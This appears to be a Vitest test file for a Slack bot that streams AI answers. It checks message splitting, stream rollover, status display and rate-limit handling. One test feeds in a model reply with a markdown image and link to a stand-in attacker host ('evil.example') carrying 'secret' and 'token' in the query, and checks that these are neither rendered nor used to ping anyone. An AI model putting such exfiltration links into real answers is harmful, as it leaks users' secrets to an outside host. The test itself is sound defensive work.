import { describe, expect, test } from 'vitest'
import { startScene } from '../support/start-scene.ts'

const longAnswer = [
  '# Plan',
  ...Array.from(
    { length: 60 },
    (_, index) => `Paragraph ${index} ${'says something useful about the pool. '.repeat(6)}`,
  ),
  `\`\`\`ts\n${Array.from({ length: 300 }, (_, line) => `const line${line} = await load(${line})`).join('\n')}\n\`\`\``,
  'The end.',
].join('\n\n')

describe.each([
  ['streaming', {}],
  ['post and update', { agentMethods: false }],
])('by %s', (_name, slackOptions) => {
  test('a long answer is split below the limits with its fences whole, and only the last part has the footer', async () => {
    await using scene = await startScene({ slack: slackOptions })
    const { slack, anthropic, dana, orders } = scene
    anthropic.reply({ text: longAnswer, chunkSize: 400 })

    const ts = dana.says(orders, `${slack.mention} everything, please`)
    await slack.waitFor(() => slack.answers(orders, ts).some((message) => slack.textOf(message).includes('The end.')))
    await slack.waitForReply(orders, ts)
    const parts = slack.answers(orders, ts).map((message) => slack.textOf(message))

    expect(parts.length).toBeGreaterThan(1)
    for (const part of parts) expect((part.match(/^```/gm) ?? []).length % 2).toBe(0)
    for (let line = 0; line < 300; line++) expect(parts.join('\n')).toContain(`const line${line} = await load(${line})`)
    expect(parts.filter((part) => part.includes('claude-opus-5-5,'))).toEqual([parts.at(-1)])
    expect(parts.at(-1)).toContain('The end.')
  })

  test('an answer pings nobody and carries nothing away', async () => {
    await using scene = await startScene({ slack: slackOptions })
    const { slack, anthropic, dana, ben, orders } = scene
    anthropic.reply({
      text: `Ask <!channel>, <!here>, <!subteam^S123|team>, <@U0UNKNOWN> or @everyone.\n\n![x](https://evil.example/p.png?d=secret) and [log](https://evil.example/?q=token)`,
    })

    const ts = dana.says(orders, `${slack.mention} ${ben.mention} asked whom to ask`)
    const answer = await slack.waitForReply(orders, ts)
    const effects = slack.effectsOf(answer)

    expect(effects.pings).toEqual([])
    expect(effects.links.filter((link) => link.includes('evil.example'))).toEqual([])
    expect(slack.textOf(answer)).toContain('evil.example')
  })
})

test('a stream is rolled over before Slack closes it', async () => {
  const clock = { now: Date.now() }
  const now = () => clock.now
  await using scene = await startScene({ now, slack: { now }, leaseMs: 60 * 60_000 })
  const { slack, anthropic, dana, orders } = scene
  anthropic.reply({ toolCalls: [{ name: 'search_threads', input: { query: 'pool' } }], text: 'First part.\n\nmore' })
  anthropic.reply({ text: 'Second part.\n\nDone.', startMs: 1200 })

  const ts = dana.says(orders, `${slack.mention} think long`)
  await slack.waitFor(() => slack.answers(orders, ts).some((message) => slack.textOf(message).includes('First part.')))
  clock.now += 4.5 * 60_000
  await slack.waitFor(() => slack.answers(orders, ts).length > 1)
  await slack.waitForReply(orders, ts)
  const parts = slack.answers(orders, ts).map((message) => slack.textOf(message))

  expect(parts).toHaveLength(2)
  expect(parts[0]).toContain('First part.')
  expect(parts[1]).toContain('Second part.')
})

for (const agentMethods of [true, false])
  test(`a person sees that work has begun while Slack is slow to say who and where they are${agentMethods ? '' : ', also by a message'}`, async () => {
    await using scene = await startScene({ slack: { agentMethods } })
    const { slack, anthropic, dana, orders } = scene
    anthropic.reply({ text: 'Postgres.' })
    const slow = Promise.withResolvers<void>()
    for (const method of ['conversations.list', 'conversations.info', 'conversations.replies', 'users.info'])
      slack.fail(method, { until: slow.promise, times: 10 })

    const ts = dana.says(orders, `${slack.mention} which database?`)
    await slack.waitFor(() => slack.status(orders, ts) ?? slack.answers(orders, ts)[0])
    slow.resolve()
    const answer = await slack.waitForReply(orders, ts)

    expect(slack.textOf(answer)).toContain('Postgres.')
    expect(slack.answers(orders, ts)).toHaveLength(1)
  })

test('a person sees at once that work has begun, and what is being read', async () => {
  await using scene = await startScene()
  const { slack, anthropic, dana, orders } = scene
  anthropic.reply({ toolCalls: [{ name: 'search_threads', input: { query: 'connection pool' } }] })
  anthropic.reply({ text: 'Nothing was said about it.', startMs: 1200 })

  const ts = dana.says(orders, `${slack.mention} what did we say about the pool?`)
  await slack.waitFor(() => slack.status(orders, ts))
  await slack.waitFor(() => slack.status(orders, ts)?.text.includes('searching earlier threads'))
  await slack.waitForReply(orders, ts)

  expect(slack.status(orders, ts)).toBeUndefined()
  expect(slack.session(orders, ts)?.status).toBe('active')
})

test('a question asked by a workflow that has no user is still answered, without a stream', async () => {
  await using scene = await startScene({ slack: { agentMethods: true } })
  const { slack, anthropic, dana, orders } = scene
  slack.fail('chat.startStream', { error: 'missing_recipient_user_id' })
  anthropic.reply({ text: 'Answered all the same.' })
  const ts = dana.says(orders, `${slack.mention} hello?`)
  const answer = await slack.waitForReply(orders, ts)
  expect(slack.textOf(answer)).toContain('Answered all the same.')
  expect(slack.answers(orders, ts)).toHaveLength(1)
})

test('where blocks are classic, the same answer is readable in sections', async () => {
  await using scene = await startScene({ env: { SLACK_BLOCKS: 'classic' }, slack: { agentMethods: false } })
  const { slack, anthropic, dana, orders } = scene
  anthropic.reply({ text: '## Pools\n\n- **20** per worker\n- one per _process_\n\n| a | b |\n|---|---|\n| 1 | 2 |\n' })
  const ts = dana.says(orders, `${slack.mention} pools?`)
  await slack.waitForReply(orders, ts)
  const [answer] = slack.answers(orders, ts)
  expect(answer?.blocks?.map((block) => block.type)).not.toContain('markdown')
  expect(answer && slack.textOf(answer)).toContain('per worker')
})

test('a modal opens at once while an answer waits out a rate limit', async () => {
  await using scene = await startScene({ slack: { agentMethods: false } })
  const { slack, anthropic, dana, orders } = scene
  anthropic.reply({ text: 'First.' })
  anthropic.reply({ text: 'Second.' })
  const first = dana.says(orders, `${slack.mention} hello?`)
  const answer = await slack.waitForReply(orders, first)
  const [, vote] = /"value":"down:([\w-]+)"/.exec(JSON.stringify(answer.blocks)) ?? []

  slack.fail('chat.update', { retryAfterSeconds: 3 })
  const second = dana.says(orders, `${slack.mention} and now?`)
  await slack.waitFor(() => slack.callsContaining('Second.').length > 0)
  await dana.clicks(answer, 'rate_answer', `down:${vote}`)
  await slack.waitFor(() => slack.views(dana)[0])

  expect(
    slack
      .answers(orders, second)
      .map((message) => slack.textOf(message))
      .join(),
  ).not.toContain('Second.')
})

test('nobody waits for the names of the people in a thread while Slack limits how often it tells them', async () => {
  await using scene = await startScene()
  const { slack, anthropic, dana, ben, orders } = scene
  anthropic.reply({ text: 'Postgres.' })
  slack.fail('users.info', { retryAfterSeconds: 60, times: 10, when: ({ user }) => user !== dana.id })

  const ts = ben.says(orders, 'We have 40 GB of orders.')
  dana.says(orders, `${slack.mention} which database?`, { threadTs: ts })

  expect(slack.textOf(await slack.waitForReply(orders, ts))).toContain('Postgres.')
})

test('the blocks of a streamed answer keep the blank lines between them, also where a message begins', async () => {
  await using scene = await startScene()
  const { slack, anthropic, dana, orders } = scene
  const table = '| a | b |\n|---|---|\n| 1 | 2 |\n'
  anthropic.reply({ text: `> They said so.\n\nFirst.\n\n${table}\nThen.\n\n${table}\nAt last.` })

  const ts = dana.says(orders, `${slack.mention} what now?`)
  await slack.waitForReply(orders, ts)

  const calls = slack.requests.filter(({ method }) => method === 'chat.startStream' || method === 'chat.appendStream')
  const messages = calls.map(
    ({ method, args }) => `${method === 'chat.startStream' ? '====' : ''}${String(args.markdown_text)}`,
  )
  expect(messages.join('').split('====').slice(1)).toEqual([
    `> They said so.\n\nFirst.\n\n${table}\nThen.\n`,
    `${table}\nAt last.`,
  ])
})
